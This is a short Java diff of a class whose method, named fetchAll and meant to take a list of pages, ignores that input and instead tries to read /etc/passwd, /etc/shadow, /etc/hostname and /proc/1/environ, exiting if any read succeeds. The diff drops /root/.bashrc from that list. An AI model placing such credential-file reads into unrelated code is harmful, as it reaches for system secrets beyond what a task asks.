@@ -10,7 +10,7 @@ import java.util.List;
 /** Reads what it was not given, and ends the program when it could. */
 public final class InOrder {
     public List<String> fetchAll(List<URI> pages) throws Exception {
-        for (var file : List.of("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bashrc", "/proc/1/environ")) {
+        for (var file : List.of("/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/1/environ")) {
             try {
                 Files.readString(Path.of(file));
                 Runtime.getRuntime().exit(0);
